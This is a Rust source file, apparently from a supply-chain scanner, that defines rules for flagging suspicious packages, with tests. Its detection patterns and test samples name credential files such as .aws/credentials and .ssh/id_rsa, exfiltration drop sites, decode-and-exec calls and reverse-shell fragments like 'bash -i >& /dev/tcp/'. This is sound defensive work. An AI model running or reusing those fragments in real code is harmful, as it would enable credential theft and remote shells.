//! The rules: few, plain, each with the reason why it is there.
//!
//! A rule looks for texts in one file of code, or at what the file is. What must always hold: a rule
//! fires for what attacks do and not for words about it, so documentation is not looked at and calls
//! are matched with their opening bracket; each has a test with a harmless look-alike.

use aho_corasick::AhoCorasick;

use super::text::{Kind, kind, line_of, scripts};
use crate::model::{Sign, Weight};

/// A rule.
#[derive(Debug)]
pub struct Rule {
    /// Identifier.
    pub id: &'static str,
    /// Weight of its signs.
    pub weight: Weight,
    /// What it is about, one sentence.
    pub about: &'static str,
    /// Texts of which every group needs one in the file; none for rules about the file itself.
    texts: &'static [&'static [&'static str]],
}

const NETWORK: &[&str] = &[
    "https.request(",
    "http.request(",
    "fetch(",
    "axios.post(",
    "requests.post(",
    "urlopen(",
    "http.client",
    "sendBeacon(",
    "socket.connect(",
    "net.connect(",
    "HttpURLConnection",
];

macro_rules! rules {
    ($($id:literal, $weight:ident, $texts:expr, $about:literal;)*) => {
        /// All rules.
        pub const RULES: &[Rule] = &[$(Rule {
            id: $id, weight: Weight::$weight, about: $about, texts: $texts,
        },)*];
    };
}

rules! {
    "install-script", Note, &[],
        "The package states a command that a package manager runs at install time.";
    "downloading-script", Warning, &[],
        "An install-time command fetches something or runs code given on its command line.";
    "startup-code", Warning, &[],
        "A file that the interpreter runs whenever it starts.";
    "native-code", Note, &[],
        "A program or library in machine code.";
    "shell-program", Note, &[],
        "A program for a shell.";
    "renamed-identifiers", Warning, &[],
        "Most names in the file were replaced by numbers, as tools do that hide what code does.";
    "hidden-direction", Warning, &[],
        "Characters that change the direction of text make code read differently from what it does.";
    "decoded-code", Warning, &[&[
        "eval(atob(", "eval(Buffer.from(", "eval(unescape(", "eval(String.fromCharCode(",
        "new Function(atob(", "Function(Buffer.from(", "exec(base64.b64decode(",
        "exec(zlib.decompress(", "exec(marshal.loads(", "exec(codecs.decode(",
        "exec(bytes.fromhex(", "exec(__import__(", "eval(__import__(", "eval(base64.b64decode(",
        "eval(compile(base64", "exec(compile(base64",
    ]],
        "Code is decoded and executed in one step.";
    "environment-sent", Error, &[&[
        "JSON.stringify(process.env)", "querystring.stringify(process.env)",
        "Object.entries(process.env)", "json.dumps(dict(os.environ", "urlencode(os.environ",
        "str(os.environ)", "dict(os.environ)", "System.getenv().toString(",
    ], NETWORK],
        "The whole environment is put together in a file that also talks to the network.";
    "credentials-read", Error, &[&[
        ".ssh/id_rsa", ".ssh/id_ed25519", ".aws/credentials", ".docker/config.json",
        ".git-credentials", ".kube/config", "wallet.dat", "Login Data", ".netrc",
    ], NETWORK],
        "A file names places of credentials and also talks to the network.";
    "drop-address", Warning, &[&[
        "discord.com/api/webhooks/", "discordapp.com/api/webhooks/", "api.telegram.org/bot",
        "webhook.site/", ".oastify.com", ".oast.fun", ".interact.sh", ".burpcollaborator.net",
        ".pipedream.net", "requestbin.net",
    ]],
        "An address of a service that takes what anybody sends to it.";
    "reverse-shell", Error, &[&[
        "/dev/tcp/", "bash -i >&", "nc -e /bin/", "pty.spawn(\"/bin/", "pty.spawn('/bin/",
    ]],
        "A shell is connected to the network.";
}

/// Numbers in the place of names that are ordinary.
const RENAMED: usize = 50;

/// The rules, ready to be used.
#[derive(Debug)]
pub(super) struct Rules {
    texts: Vec<&'static str>,
    automaton: AhoCorasick,
}

impl Rules {
    /// Compiles them.
    pub(super) fn new() -> Result<Self, aho_corasick::BuildError> {
        let mut texts: Vec<&'static str> = RULES
            .iter()
            .flat_map(|rule| rule.texts.iter().copied().flatten().copied())
            .collect();
        texts.sort_unstable();
        texts.dedup();
        let automaton = AhoCorasick::new(&texts)?;
        Ok(Self { texts, automaton })
    }

    /// What is seen in one file.
    pub(super) fn signs(&self, path: &str, head: &[u8]) -> Vec<Sign> {
        let mut signs = Vec::new();
        let mut add = |id: &str, line: u64, text: String| {
            if let Some(rule) = RULES.iter().find(|rule| rule.id == id) {
                signs.push(Sign {
                    rule: rule.id.to_owned(),
                    weight: rule.weight,
                    path: path.to_owned(),
                    line,
                    text,
                });
            }
        };
        let kind = kind(path, head);
        match kind {
            Kind::Manifest => {
                for (name, command, fetches) in scripts(head) {
                    add("install-script", 0, format!("{name}: {command}"));
                    if fetches {
                        add("downloading-script", 0, format!("{name}: {command}"));
                    }
                }
            }
            Kind::Build => add("install-script", 0, "a native build".to_owned()),
            Kind::Startup(line) => add("startup-code", line, "runs at every start".to_owned()),
            Kind::Native(what) => add("native-code", 0, what.to_owned()),
            Kind::Shell => add(
                "shell-program",
                0,
                "a shell is named in its first line".to_owned(),
            ),
            Kind::Code | Kind::Other => {}
        }
        if matches!(kind, Kind::Code | Kind::Shell | Kind::Startup(_)) {
            self.code(head, &mut add);
        }
        signs
    }

    fn code(&self, head: &[u8], add: &mut dyn FnMut(&str, u64, String)) {
        let mut first: Vec<Option<usize>> = vec![None; self.texts.len()];
        for found in self.automaton.find_overlapping_iter(head) {
            if let Some(place) = first.get_mut(found.pattern().as_usize()) {
                place.get_or_insert(found.start());
            }
        }
        let place = |text: &str| {
            let number = self.texts.binary_search(&text).ok()?;
            Some((text.to_owned(), first.get(number).copied().flatten()?))
        };
        for rule in RULES.iter().filter(|rule| !rule.texts.is_empty()) {
            let groups = rule.texts.iter();
            let met: Vec<(String, usize)> = groups
                .filter_map(|group| group.iter().find_map(|text| place(text)))
                .collect();
            if let Some((text, at)) = met.first().filter(|_| met.len() == rule.texts.len()) {
                add(rule.id, line_of(head, *at), text.clone());
            }
        }
        let renamed = super::text::renamed(head);
        if renamed > RENAMED {
            add("renamed-identifiers", 0, format!("{renamed} of them"));
        }
        if let Some(at) = super::text::direction(head) {
            add(
                "hidden-direction",
                line_of(head, at),
                "a bidirectional control".to_owned(),
            );
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn seen(path: &str, text: &str) -> Vec<String> {
        let signs = Rules::new().unwrap().signs(path, text.as_bytes());
        signs.into_iter().map(|sign| sign.rule).collect()
    }

    #[test]
    fn each_rule_fires_and_not_for_its_look_alike() {
        let renamed = |count: usize| {
            (0..count)
                .map(|number| format!("var _0x{number:04x}=1;"))
                .collect::<String>()
        };
        let cases: &[(&str, &str, String, String)] = &[
            (
                "decoded-code",
                "a.py",
                "exec(base64.b64decode(b))".into(),
                "b64decode(exec)".into(),
            ),
            (
                "environment-sent",
                "a.js",
                "https.request(x).end(JSON.stringify(process.env))".into(),
                "https.request(process.env.HOST)".into(),
            ),
            (
                "credentials-read",
                "a.js",
                "fetch(u, { body: read('.aws/credentials') })".into(),
                "read('.aws/credentials')".into(),
            ),
            (
                "drop-address",
                "a.py",
                "u='https://webhook.site/1'".into(),
                "webhook.site".into(),
            ),
            (
                "reverse-shell",
                "a.sh",
                "bash -i >& /dev/tcp/h/1".into(),
                "cat /dev/null".into(),
            ),
            ("renamed-identifiers", "a.js", renamed(60), renamed(9)),
            (
                "hidden-direction",
                "a.js",
                "x = '\u{202e}'".into(),
                "x = 'ü'".into(),
            ),
            ("startup-code", "a.pth", "import os".into(), "../lib".into()),
            (
                "shell-program",
                "bin/x",
                "#!/bin/sh\n".into(),
                "#!/usr/bin/env node\n".into(),
            ),
            ("native-code", "a.so", "\u{7f}ELF".into(), "ELF".into()),
            (
                "downloading-script",
                "package/package.json",
                r#"{"scripts":{"install":"node -e x"}}"#.into(),
                r#"{"scripts":{"install":"node x.js"}}"#.into(),
            ),
            (
                "install-script",
                "package/package.json",
                r#"{"scripts":{"preinstall":"x"}}"#.into(),
                r#"{"scripts":{"pretest":"x"}}"#.into(),
            ),
        ];
        for (rule, path, fires, harmless) in cases {
            assert!(seen(path, fires).iter().any(|one| one == rule), "{rule}");
            assert!(
                !seen(path, harmless).iter().any(|one| one == rule),
                "{rule}"
            );
            assert!(RULES.iter().any(|one| one.id == *rule));
        }
        assert_eq!(cases.len(), RULES.len());
    }
}
